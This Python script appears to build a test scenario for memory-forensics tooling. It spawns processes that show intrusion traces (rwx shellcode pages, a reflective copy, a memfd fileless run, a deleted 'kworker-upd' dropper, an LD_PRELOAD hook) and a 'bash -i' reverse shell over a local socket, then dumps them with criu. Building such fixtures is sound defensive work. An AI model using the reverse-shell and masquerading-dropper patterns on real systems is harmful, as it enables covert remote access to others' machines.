#!/usr/bin/env python3
"""Scenario "intrusion": the traces an intrusion leaves in processes, for malfind and triage.

Sets up (implant.c, compiled here, does the work in memory; see its header):
  intr-init     the root (implant idle), as a container's init
  inj-shellcode an anonymous page mapped rwx holding 27 bytes of x86-64 shellcode (never run)
  inj-reflect   the implant's own ELF file copied into an anonymous area, then mprotect'ed r-x
  inj-fileless  a copy of the implant written to a memfd ("cfw-payload") and fexecve'd: it runs
                from the memfd (fileless)
  inj-deleted   a copy of the implant at /tmp/cfw-scenarios/intrusion/kworker-upd, run, then
                deleted while it runs
  inj-preload   the implant run with LD_PRELOAD=/tmp/cfw-scenarios/intrusion/libcfwhook.so (a
                small library built here whose constructor only plants a marker)
  bash          "bash -i" with stdin, stdout and stderr on one TCP socket connected to
                192.0.2.2:PORT: this machine's own eth0 address (TEST-NET-1), not a loopback
                one; the listening end is this script's, outside the tree
  inj-relay     a relay holding a TCP connection to 127.0.0.1:PORT (a listener of this script)
                and running "bash -i" whose standard streams are pipes to the relay

The truth file adds, from /proc just before the dump and independently of checkforensics:
``executable_maps`` (every executable line of /proc/PID/maps, per process) and ``implants``
(what each implant reported, with the /proc/PID/maps line holding the address it gave).

Dump: criu dump -t ROOT -D OUT/images --shell-job --tcp-established --network-lock skip
Usage: intrusion.py OUTDIR [REMOTE_ADDRESS]   (REMOTE_ADDRESS: a non-loopback address of this
machine for the reverse shell's peer; 192.0.2.2 by default)
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _common import BASE, HERE, READY_FD, Tree

NAME = "intrusion"
HOOK_SOURCE = r"""
#include <string.h>
static char planted[64];
__attribute__((constructor)) static void cfw_hook(void) { strcpy(planted, "marker-intrusion-hook-3b7e"); }
"""


def build() -> tuple[str, str]:
    """implant (from implant.c) and libcfwhook.so, under /tmp/cfw-scenarios/bin."""
    out = BASE / "bin"
    out.mkdir(parents=True, exist_ok=True)
    implant = out / "implant"
    subprocess.run(["gcc", "-O2", "-Wall", "-o", str(implant), str(HERE / "implant.c")], check=True)
    hook_c = out / "cfwhook.c"
    hook_c.write_text(HOOK_SOURCE)
    hook = out / "libcfwhook.so"
    subprocess.run(["gcc", "-O2", "-shared", "-fPIC", "-o", str(hook), str(hook_c)], check=True)
    return str(implant), str(hook)


def executable_maps(pid: int) -> list[str]:
    lines = Path(f"/proc/{pid}/maps").read_text(errors="backslashreplace").splitlines()
    return [line for line in lines if line.split()[1][2] == "x"]


def line_holding(pid: int, address: int) -> str | None:
    for line in Path(f"/proc/{pid}/maps").read_text(errors="backslashreplace").splitlines():
        start, end = (int(v, 16) for v in line.split()[0].split("-"))
        if start <= address < end:
            return line
    return None


def main() -> int:
    out = sys.argv[1] if len(sys.argv) > 1 else f"/tmp/cfw-dumps/{NAME}"
    remote = sys.argv[2] if len(sys.argv) > 2 else "192.0.2.2"
    implant, hook = build()
    t = Tree(NAME, out)
    t.markers += ["marker-intrusion-hook-3b7e"]
    dropper = t.work / "kworker-upd"
    shutil.copy(implant, dropper)
    preload = t.work / "libcfwhook.so"
    shutil.copy(hook, preload)

    reverse = socket.create_server((remote, 0))
    relay_listener = socket.create_server(("127.0.0.1", 0))
    reverse_address = reverse.getsockname()
    relay_port = str(relay_listener.getsockname()[1])
    ready = str(READY_FD)

    def run(argv: list[str], env: dict | None = None):
        def child() -> None:
            t.exec_argv(argv, env)

        return child

    def reverse_shell() -> None:
        conn = socket.create_connection(reverse_address)
        for fd in (0, 1, 2):
            os.dup2(conn.fileno(), fd)
        conn.close()
        os.execve("/bin/bash", ["bash", "-i"], t.env)

    def root(t: Tree) -> None:
        t.fork(run([implant, "shellcode", "inj-shellcode", ready]))
        t.fork(run([implant, "reflective", "inj-reflect", ready]))
        t.fork(run([implant, "fileless", "inj-fileless", ready]))
        t.fork(run([str(dropper), "idle", "inj-deleted", ready]))
        t.fork(run([implant, "idle", "inj-preload", ready], {**t.env, "LD_PRELOAD": str(preload)}))
        t.fork(run([implant, "relay", "inj-relay", ready, relay_port]))
        t.fork(reverse_shell)
        t.exec_argv([implant, "idle", "intr-init", ready])

    with t.session():
        pid = t.start(root, expected=7)
        conn, _ = reverse.accept()
        conn.settimeout(20)
        seen = b""
        while b"#" not in seen and b"$" not in seen:  # bash's prompt: it waits on its socket
            seen += conn.recv(4096)
        relay_conn, _ = relay_listener.accept()
        dropper.unlink()
        time.sleep(0.3)
        implants = {}
        for line in t.ready_lines:
            head, _, what = line.partition("\t")
            pid_text, _, comm = head.partition(" ")
            entry = {"pid": int(pid_text), "report": what}
            words = what.split()
            if words[0] in ("shellcode", "reflective"):
                address = int(words[1], 16)
                entry["address"] = hex(address)
                entry["maps_line"] = line_holding(int(pid_text), address)
            implants[comm] = entry
        extra = {
            "implants": implants,
            "executable_maps": {str(p): executable_maps(p) for p in t.tree_pids(pid)},
            "reverse_shell_peer": f"{reverse_address[0]}:{reverse_address[1]}",
            "relay_peer": f"127.0.0.1:{relay_port}",
        }
        t.dump(pid, ["--tcp-established", "--network-lock", "skip"], truth_extra=extra)
        conn.close()
        relay_conn.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
